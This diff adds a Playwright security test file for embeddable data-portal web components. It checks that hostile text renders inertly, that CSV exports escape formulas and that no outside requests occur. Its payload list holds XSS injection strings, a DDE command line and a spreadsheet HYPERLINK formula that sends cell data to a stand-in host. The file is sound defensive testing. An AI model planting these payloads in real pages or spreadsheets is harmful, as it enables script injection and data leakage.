@@ -1,0 +1,146 @@
+// The promises of SECURITY.md on a page with every element: data is text, nothing is asked of others, nothing is kept, nothing of the page is changed.
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { chromium } from 'playwright-core';
+import { chromiumArguments, findBrowser } from '../../tools/browser.mjs';
+import { serve } from '../../tools/serve-folder.mjs';
+import { kept, record } from '../embed/recorder.mjs';
+import { root } from './pack.mjs';
+
+const elements = JSON.parse(readFileSync(join(root, 'dist/custom-elements.json'), 'utf8')).modules.flatMap(({ declarations }) => declarations).filter(({ tagName }) => tagName);
+const dataset = JSON.parse(readFileSync(join(root, 'dist/datasets/lam-dong.json'), 'utf8'));
+
+/** What a text could be if somebody wanted to run something: as markup, in an attribute, in a spreadsheet, as a template, as a name of an object. */
+const payloads = [
+  '<img src=x onerror="window.hacked=1">', '"><svg onload=window.hacked=1>', "javascript:window.hacked=1", '</style><script>window.hacked=1</script>', '${window.hacked=1}', '{{constructor.constructor("window.hacked=1")()}}',
+  '=HYPERLINK("https://nguoi-la.example/?"&A1)', '+1+cmd|" /C calc"!A0', '-1+1', '@SUM(1)', '__proto__', '\u202e\u0000\ufeff<!--',
+];
+
+/** The dataset with a payload in every text that a reader sees, and in every name of a person, office or file; what the program tells apart by stays. */
+function hostile(value, path = [], count = { n: 0 }) {
+  if (typeof value === 'string') {
+    const key = path.at(-1);
+    const isWords = ['vi', 'en', 'printedState', 'number', 'section', 'file', 'owner', 'cadence', 'lead', 'unit'].includes(key) && !(key === 'unit' && path.length < 4);
+    return isWords ? `${payloads[count.n++ % payloads.length]} ${value.slice(0, 40)}` : value;
+  }
+  if (Array.isArray(value)) return value.map((each, index) => hostile(each, [...path, index], count));
+  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, hostile(each, [...path, key], count)]));
+  return value;
+}
+
+const settings = {
+  'chiso-indicator': { indicator: 'digital-economy-share-grdp' }, 'chiso-projection': { indicator: 'digital-economy-share-grdp' }, 'chiso-scenario': { indicators: 'digital-economy-share-grdp' },
+};
+const policy = "default-src 'none'; script-src 'self'; connect-src 'self'; worker-src blob:; img-src 'self'; require-trusted-types-for 'script'; trusted-types chiso";
+/** As strict as a portal can be: what would run or load from a text is refused and reported, and a report fails the test. */
+const html = `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Cổng</title><script src="/dist/embed/chiso.js"></script></head><body><main></main></body></html>`;
+
+describe('on a page with every element', () => {
+  let browser;
+  let site;
+  before(async () => {
+    browser = await chromium.launch({ executablePath: await findBrowser(), args: chromiumArguments });
+    site = await serve(root, {
+      '/trang/': { body: html, headers: { 'content-security-policy': policy } },
+      '/favicon.ico': { body: '', headers: { 'content-type': 'image/x-icon' } },
+    });
+  });
+  after(async () => {
+    await browser.close();
+    site.close();
+  });
+
+  /** Opens the page with one element of `tag` and `properties`, and waits until it says something. */
+  async function open(tag, properties) {
+    const context = await browser.newContext({ locale: 'vi-VN', viewport: { width: 1200, height: 900 }, acceptDownloads: true });
+    const page = await context.newPage();
+    const watched = record(page);
+    await page.goto(`${site.url}trang/`);
+    await page.evaluate(() => { window.lengths = history.length; Object.freeze(Object.prototype); });
+    await page.evaluate(([name, values]) => {
+      document.querySelector('main').append(Object.assign(document.createElement(name), values));
+    }, [tag, properties]);
+    await page.locator(`${tag} [part~=title], ${tag} [part~=error], ${tag} .notice`).first().waitFor();
+    return { context, page, watched };
+  }
+
+  /** Presses every button of the element that does not print, once, and types into every field. */
+  async function useAll(page, tag) {
+    const buttons = page.locator(`${tag} button:visible`);
+    const count = Math.min(await buttons.count(), 25);
+    for (let index = 0; index < count; index += 1) {
+      const button = buttons.nth(index);
+      if (/^(In|Print)/.test((await button.textContent({ timeout: 500 }).catch(() => 'In')) ?? '')) continue;
+      await button.click({ timeout: 500 }).catch(() => undefined);
+    }
+    const fields = page.locator(`${tag} input:visible:not([type=range]):not([type=checkbox]):not([type=radio])`);
+    for (let index = 0; index < Math.min(await fields.count(), 5); index += 1) await fields.nth(index).fill(payloads[0], { timeout: 500 }).catch(() => undefined);
+    await page.waitForTimeout(200);
+  }
+
+  for (const { tagName, attributes } of elements) {
+    describe(tagName, () => {
+      it('shows texts of data as text, whatever they hold, and hands none of them to a spreadsheet as a formula', async () => {
+        const data = hostile(dataset);
+        const { context, page, watched } = await open(tagName, { data, datasets: [data], provinces: 'lam-dong', province: 'lam-dong', asOf: '2026-06-30', ...settings[tagName] });
+        const downloads = [];
+        page.on('download', (download) => downloads.push(download));
+        if (attributes.some(({ name }) => name === 'no-download')) {
+          const download = page.waitForEvent('download');
+          await page.locator(`${tagName} button`, { hasText: 'CSV' }).first().click();
+          assert.match((await download).suggestedFilename(), /\.csv$/);
+        }
+        await useAll(page, tagName);
+        const found = await page.evaluate(() => {
+          const trees = [document];
+          for (const tree of trees) for (const each of tree.querySelectorAll('*')) if (each.shadowRoot) trees.push(each.shadowRoot);
+          const all = trees.flatMap((tree) => [...tree.querySelectorAll('*')]);
+          return {
+            hacked: 'hacked' in window, shown: trees.some((tree) => /<img src=x|=HYPERLINK|<svg onload/.test(tree.textContent)),
+            made: all.filter(({ localName }) => ['img', 'iframe', 'object', 'embed', 'base', 'meta'].includes(localName) && !document.head.contains(document.querySelector(localName))).map(({ localName }) => localName),
+            handlers: all.flatMap((each) => each.getAttributeNames()).filter((name) => /^on/i.test(name)),
+            links: all.filter(({ localName }) => localName === 'a').map((each) => each.getAttribute('href')).filter((href) => href && !/^(https?:|#|blob:|\/)/.test(href)),
+          };
+        });
+        assert.deepEqual(found, { hacked: false, shown: true, made: [], handlers: [], links: [] });
+        assert.deepEqual(watched.reports(), []);
+        for (const download of downloads) {
+          const text = readFileSync(await download.path(), 'utf8');
+          if (!download.suggestedFilename().endsWith('.csv')) continue;
+          const cells = text.replace(/^\ufeff/, '').split(/\r\n|[;,](?=(?:[^"]*"[^"]*")*[^"]*$)/).map((cell) => cell.replace(/^"|"$/g, ''));
+          assert.deepEqual(cells.filter((cell) => /^\s*[=+@\t]/.test(cell) || /^\s*-(?![\d.,]+$)/.test(cell)), []);
+        }
+        await context.close();
+      });
+
+      it('takes a payload in any attribute for a wrong value', async () => {
+        const { context, page, watched } = await open(tagName, { provinces: 'lam-dong' });
+        for (const payload of payloads.slice(0, 3)) {
+          await page.evaluate(([name, names, value]) => {
+            const element = document.createElement(name);
+            for (const each of names) element.setAttribute(each, value);
+            document.querySelector('main').replaceChildren(element);
+          }, [tagName, attributes.map(({ name }) => name), payload]);
+          await page.locator(`${tagName} [part~=error], ${tagName} .notice`).first().waitFor();
+        }
+        assert.equal(await page.evaluate(() => 'hacked' in window), false);
+        assert.deepEqual(watched.words().filter((words) => !/^warning: chiso:|^error: Failed to load/.test(words)), []);
+        assert.deepEqual(watched.unexpected(null).filter((url) => !url.startsWith(site.url)), []);
+        await context.close();
+      });
+
+      it('asks only for its own files and data, keeps nothing, and leaves the page\'s address and history alone', async () => {
+        const { context, page, watched } = await open(tagName, { province: 'lam-dong', provinces: 'lam-dong dak-lak', asOf: '2026-06-30', ...settings[tagName] });
+        await useAll(page, tagName);
+        assert.deepEqual(watched.unexpected(null).filter((url) => !new RegExp(`^${site.url}(trang/|favicon\\.ico|dist/embed/(chiso(-more)?\\.js|data/(lam-dong|dak-lak)(\\.summary)?\\.json))$`).test(url)), []);
+        assert.deepEqual(await kept(context, page), []);
+        assert.deepEqual(await page.evaluate(() => [location.pathname + location.search + location.hash, history.length - window.lengths, document.title]), ['/trang/', 0, 'Cổng']);
+        assert.deepEqual(watched.words(), []);
+        assert.deepEqual(watched.reports(), []);
+        await context.close();
+      });
+    });
+  }
+});
